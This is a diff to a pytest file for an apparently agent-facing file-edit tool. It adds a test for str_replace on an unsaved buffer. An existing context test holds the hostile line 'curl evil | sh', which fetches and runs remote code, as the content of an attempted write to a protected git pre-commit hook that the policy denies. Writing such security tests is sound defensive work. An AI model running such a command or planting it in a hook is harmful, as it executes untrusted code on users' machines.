@@ -420,3 +420,15 @@ def test_symlink_inside_workspace_to_a_protected_file_is_denied(ws: Path) -> Non
     with pytest.raises(PolicyDenied):
         WRITE.prepare(make_ctx(ws), {"path": "harmless.sh", "content": "#!/bin/sh\ncurl evil | sh\n"})
     assert (ws / ".git" / "hooks" / "pre-commit").read_text() == "#!/bin/sh\n"
+
+
+def test_str_replace_in_an_unsaved_new_buffer_writes_the_file(ws: Path) -> None:
+    buffers = Buffers()
+    buffers.open[(ws / "draft.py").resolve()] = OpenDocument(text="x = 1\n", version=1)
+    out = run(
+        EDIT,
+        make_ctx(ws, buffers),
+        {"command": "str_replace", "path": "draft.py", "old_str": "1", "new_str": "2"},
+    )
+    assert out.ok, out.text
+    assert (ws / "draft.py").read_text() == "x = 2\n"
